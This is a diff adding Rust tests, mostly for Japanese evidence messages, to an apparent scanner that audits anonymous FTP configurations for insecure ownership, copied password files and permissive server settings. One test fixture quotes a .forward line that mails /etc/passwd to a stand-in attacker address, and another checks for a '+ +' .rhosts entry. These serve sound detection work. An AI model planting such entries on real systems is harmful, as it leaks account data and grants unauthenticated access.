@@ -156,6 +156,18 @@ fn ft001_ftp_owned_or_writable_system_dirs() {
         "Anonymous FTP のディレクトリ home/ftp/usr: root の所有ではない"
     );
     assert!(by_path("home/ftp").evidence[0].text.contains("owner ftp"));
+    assert_eq!(
+        by_path("home/ftp").evidence[0].text,
+        "home/ftp: mode 0755, owner ftp, group ftp (owned by the ftp user and writable by it)"
+    );
+    assert_eq!(
+        by_path("home/ftp").evidence[0].text_ja.as_deref(),
+        Some("home/ftp: モード 0755、所有者 ftp、グループ ftp（ftp ユーザが所有し、書き込める）")
+    );
+    assert_eq!(
+        by_path("home/ftp/usr").evidence[0].text_ja.as_deref(),
+        Some("home/ftp/usr: モード 0555、所有者 tanaka、グループ wheel（root の所有ではない）")
+    );
 }
 
 #[test]
@@ -200,6 +212,14 @@ fn ft002_passwd_with_hashes_or_copied() {
         findings[1].title_ja,
         "home/ftp/etc/group は本物の etc/group の写し"
     );
+    assert_eq!(
+        findings[0].evidence[0].text_ja.as_deref(),
+        Some("home/ftp/etc/passwd: etc/passwd と同じアカウントが並んでいる")
+    );
+    assert_eq!(
+        findings[1].evidence[0].text_ja.as_deref(),
+        Some("home/ftp/etc/group: etc/group と同じグループが並んでいる")
+    );
 }
 
 #[test]
@@ -223,6 +243,17 @@ fn ft003_forward_and_rhosts_in_the_ftp_root() {
             .contains("|/bin/mail evil@example.org")
     );
     assert!(findings[1].evidence[0].text.contains("+ +"));
+    // kensa's words in Japanese, the file's first line quoted as it is.
+    let ja = findings[0].evidence[0]
+        .text_ja
+        .as_deref()
+        .unwrap_or_default();
+    assert!(
+        ja.starts_with("home/ftp/.forward: モード 0")
+            && ja.contains("、所有者 root、グループ root、42 バイト: ")
+            && ja.ends_with(": \"|/bin/mail evil@example.org < /etc/passwd\""),
+        "{ja}"
+    );
     assert_eq!(
         findings[0].title_ja,
         "Anonymous FTP のルート・ディレクトリに .forward がある（home/ftp/.forward）"
@@ -242,6 +273,14 @@ fn ft003_a_link_is_described_not_followed_out_of_the_root() {
     assert_eq!(codes(&findings), ["FT003"], "{findings:#?}");
     let text = &findings[0].evidence[0].text;
     assert!(text.contains("a link to"), "{text}");
+    let ja = findings[0].evidence[0]
+        .text_ja
+        .as_deref()
+        .unwrap_or_default();
+    assert!(
+        ja.contains("、所有者 root、グループ root、") && ja.ends_with(" へのシンボリックリンク）"),
+        "{ja}"
+    );
     assert!(!format!("{findings:?}").contains("OUTSIDE-SECRET"));
 }
 
@@ -261,6 +300,10 @@ fn ft004_writable_dirs_but_a_write_only_incoming() {
     assert_eq!(
         findings[0].title_ja,
         "Anonymous FTP のディレクトリ home/ftp/pub: 誰でも書き込める"
+    );
+    assert_eq!(
+        findings[0].evidence[0].text_ja.as_deref(),
+        Some("home/ftp/pub: モード 0777、所有者 root、グループ root（誰でも書き込める）")
     );
     // An incoming that can be listed is a drop box: reported, but lower.
     let (_tmp, root) = good_root();
@@ -311,6 +354,14 @@ fn ft006_ftpusers_missing_root() {
         findings[0].title_ja,
         "etc/ftpusers が root, sys, uucp を拒否していない"
     );
+    assert_eq!(
+        findings[0].evidence[0].text,
+        "etc/ftpusers: does not list root, sys, uucp"
+    );
+    assert_eq!(
+        findings[0].evidence[0].text_ja.as_deref(),
+        Some("etc/ftpusers: root, sys, uucp が記載されていない")
+    );
 }
 
 #[test]
@@ -355,6 +406,44 @@ fn ft007_to_ft010_server_configurations() {
              ftp ユーザが書き込める場所ならどこにでも匿名の利用者が書き込める",
             "etc/pure-ftpd/conf: Pure-FTPd が匿名の利用者にアップロードを許している",
         ]
+    );
+    // Lines of a configuration are quoted as they are: no Japanese of their own.
+    assert_eq!(findings[1].evidence[0].text_ja, None);
+}
+
+#[test]
+fn ft008_ft010_defaults_are_described_in_both_languages() {
+    need_root!();
+    let (_tmp, root) = good_root();
+    write(
+        &root,
+        "etc/vsftpd.conf",
+        b"write_enable=YES\nanon_upload_enable=YES\n",
+    );
+    fs::remove_dir_all(root.join("etc/pure-ftpd/conf")).unwrap();
+    write(
+        &root,
+        "etc/pure-ftpd/pure-ftpd.conf",
+        b"ChrootEveryone yes\n",
+    );
+    let findings = ftp_findings(&root);
+    assert_eq!(codes(&findings), ["FT008", "FT010"], "{findings:#?}");
+    let vsftpd = &findings[0].evidence[0];
+    assert_eq!(
+        vsftpd.text,
+        "anonymous_enable not set: vsftpd's default (YES) applies"
+    );
+    assert_eq!(
+        vsftpd.text_ja.as_deref(),
+        Some("anonymous_enable が未設定: vsftpd の既定値（YES）が適用される")
+    );
+    assert_eq!(findings[1].evidence.len(), 1);
+    assert_eq!(
+        findings[1].evidence[0].text_ja.as_deref(),
+        Some(
+            "etc/pure-ftpd/pure-ftpd.conf: NoAnonymous も AnonymousCantUpload も設定されていない\
+             （どちらも既定値は no）"
+        )
     );
 }
 
